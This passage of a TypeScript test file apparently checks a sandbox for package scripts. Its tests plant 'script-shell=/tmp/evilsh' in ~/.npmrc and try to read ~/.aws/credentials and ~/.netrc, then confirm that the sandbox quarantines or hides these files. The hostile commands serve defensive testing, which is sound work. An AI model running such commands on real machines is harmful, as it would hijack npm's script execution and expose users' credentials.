    rmSync(join(userHome, ".npmrc"), { force: true });
    const r = await runIn(project, [], script('echo "script-shell=/tmp/evilsh" > "$HOME/.npmrc" && echo planted'));
    expect(r.stdout, r.stderr).toContain("planted");
    expect(existsSync(join(userHome, ".npmrc"))).toBe(false);
    expect(quarantined(userHome, ".npmrc").length).toBe(1);
  }, 60_000);
});

describe.skipIf(!HAVE_BWRAP)("naming a path brings it back", () => {
  test("--sandbox-ro ~/.aws shows it, --sandbox-rw ~/.config lets it be written under --sandbox-strict; --sandbox-rw ~ keeps the credentials hidden", async () => {
    const r = await runIn(
      project,
      ["--sandbox-strict", "--sandbox-ro", join(userHome, ".aws"), "--sandbox-rw", join(userHome, ".config")],
      script(`cat "$HOME/.aws/credentials"; mkdir -p "$HOME/.config/tool" && echo ok > "$HOME/.config/tool/x" && echo rc=$?; cat "$HOME/.netrc" 2>&1; true`),
    );
    expect(r.stdout).toContain(CANARY);
    expect(r.stdout.split(CANARY).length - 1).toBe(1);
    expect(r.stdout).toContain("rc=0");
    expect(existsSync(join(userHome, ".config", "tool", "x"))).toBe(true);
    const above = await runIn(project, ["--sandbox-rw", userHome], script(`${READ_CREDENTIALS}; true`));
    expect(above.stdout + above.stderr).not.toContain(CANARY);
  }, 60_000);
});
